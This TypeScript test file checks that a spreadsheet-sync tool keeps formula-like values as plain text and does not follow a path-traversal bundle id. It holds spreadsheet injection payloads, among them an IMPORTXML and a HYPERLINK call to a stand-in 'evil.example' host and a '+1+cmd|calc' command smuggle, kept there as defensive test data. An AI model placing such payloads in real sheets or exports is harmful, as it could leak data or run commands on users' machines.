import type { Bundle } from '../../local/tokportal/world/bundle';
import { isDangerous } from '../../src/workbook/formulaGuard';
import { oneOrderOf } from '../support/agencyRows';
import { type AgencyWorld, useAgencies } from '../support/agencyWorld';

const open = useAgencies();
const EVIL = [
  '=IMPORTXML("https://evil.example","//a")',
  '+1+cmd|calc',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '  =1+1',
];

/** Formulas that stand in cells: none of them may come from outside. */
function expectNoFormula(world: AgencyWorld): void {
  expect({ formulas: world.cells.formulas() }).toEqual({ formulas: [] });
  // Nor do they become formulas when the sheet is exported and opened elsewhere.
  expect({ unguarded: world.cells.systemValues().filter(isDangerous) }).toEqual({ unguarded: [] });
  expect(world.cells.textsOf('Bundles').filter((text) => text.startsWith('#'))).toEqual([]);
}

function changeBundles(world: AgencyWorld, change: (bundle: Bundle) => Bundle): void {
  const { bundles } = world.sandbox.world;
  for (const bundle of bundles.values()) bundles.set(bundle.id, change(bundle));
}

test.each(EVIL)('%j in statuses and post links stays text', async (evil) => {
  const world = await open({ rows: oneOrderOf(2) });
  await world.preview();
  await world.send();
  changeBundles(world, (bundle) => ({
    ...bundle,
    status: evil as Bundle['status'],
    savedAccountId: evil,
    slots: bundle.slots.map((slot) => ({ ...slot, platformUrl: evil, status: evil as typeof slot.status })),
  }));
  const updated = await world.refresh();
  expect(updated.result.error).toBeNull();
  expectNoFormula(world);
  expect(world.cell('Videos', 'post_link', 2).replace(/^'/, '').trim()).toBe(evil.trim());
  expect(world.cell('Bundles', 'status', 2).replace(/^'/, '').trim()).toBe(evil.trim());
  const again = await world.preview();
  expect(again.result.error).toBeNull();
  expectNoFormula(world);
});

test.each(EVIL)('%j in an error’s code and message stays text in Problem, Plan and Runs', async (evil) => {
  const world = await open({ rows: oneOrderOf(1) });
  await world.preview();
  world.sandbox.setFault({
    operationId: 'createBundle',
    kind: 'error',
    status: 400,
    code: evil,
    message: evil,
  });
  const sent = await world.send();
  expect(sent.result.error).toBeNull();
  expect(world.cell('Bundles', 'problem', 2)).toContain(evil.trim().slice(0, 4));
  expectNoFormula(world);
});

test('a foreign reference and a foreign title that are formulas stay text where the plan names them', async () => {
  const evil = '=HYPERLINK("https://evil.example","click")';
  const rows = {
    ...oneOrderOf(1),
    Bundles: [{ ...oneOrderOf(1).Bundles[0], Publish: 'no', 'Video slots': 2 }],
  };
  const world = await open({ rows });
  await world.preview();
  await world.send();
  changeBundles(world, (bundle) => ({
    ...bundle,
    slots: bundle.slots.map((slot) =>
      slot.position === 2
        ? { ...slot, status: 'configured', content: { ...slot.content, external_ref: evil } }
        : slot,
    ),
  }));
  world.edit('Bundles', 'publish', 2, 'yes');
  await world.preview();
  const cancelled = await world.send(['cancel']);
  expect(cancelled.shown).toContain(evil);
  expectNoFormula(world);
});

test('an order id that is no id is not followed', async () => {
  const world = await open({ rows: oneOrderOf(1) });
  await world.preview();
  world.intercept = ({ method, url, headers }) =>
    method.toUpperCase() === 'POST' && url.endsWith('/bundles') && !('X-TokPortal-Dry-Run' in headers)
      ? {
          kind: 'respond',
          status: 201,
          body: JSON.stringify({
            data: { bundle_id: '../credits?x=1', status: 'pending_setup' },
            credits_charged: 34,
          }),
        }
      : undefined;
  const sent = await world.send();
  expect(sent.result.error).toBeNull();
  expect(world.sandbox.requests().filter(({ path }) => path.includes('..') || path.includes('%2F'))).toEqual(
    [],
  );
  expect(world.cell('Bundles', 'status', 2)).toBe('in doubt');
  expectNoFormula(world);
});

test('texts of the operator that begin like formulas go out as they are, and come back as text', async () => {
  const world = await open({ rows: oneOrderOf(1) });
  // Text columns are plain text: what is typed there stands as it is.
  world.edit('Videos', 'description', 2, '=not a formula #fun');
  world.edit('Bundles', 'external_ref', 2, '-acme-usa');
  world.edit('Videos', 'order', 2, '-acme-usa');
  expect((await world.preview()).value).toMatchObject({ orders: 1, problems: [] });
  expect((await world.send()).ok).toBe(true);
  const bundle = world.bundleOf('-acme-usa');
  expect((bundle.slots as Record<string, unknown>[])[0]).toMatchObject({
    description: '=not a formula #fun',
    external_ref: '-acme-usa-01',
  });
  expectNoFormula(world);
  expect((await world.preview()).value).toMatchObject({ changes: 0, problems: [] });
  expect((await world.refresh()).ok).toBe(true);
  expectNoFormula(world);
});
